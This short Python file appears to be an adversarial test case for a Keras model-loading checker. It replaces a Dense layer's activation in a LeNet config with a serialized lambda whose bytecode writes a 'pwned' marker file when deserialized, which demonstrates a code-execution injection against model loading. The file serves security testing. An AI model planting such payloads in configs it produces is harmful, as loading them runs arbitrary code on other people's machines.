"""Sends the reference's config with a Dense activation replaced by a serialized Python lambda
(marshalled bytecode, Keras's '__lambda__'), which would write a mark if deserialized."""
import keras

import adversarial_kit as kit
from _honest import build_lenet as _build_lenet
from _honest import layer_output_shapes  # noqa: F401

MARK = kit.pwned_path("lambda-bytecode")


def build_lenet():
    config = kit.config_of(_build_lenet())
    payload = keras.saving.serialize_keras_object(lambda x: (open(MARK, "w").write("pwned"), x)[1])
    dense = [layer for layer in kit.layers_of(config) if layer["class_name"] == "Dense"][0]
    dense["config"]["activation"] = payload
    return kit.send_config(config)
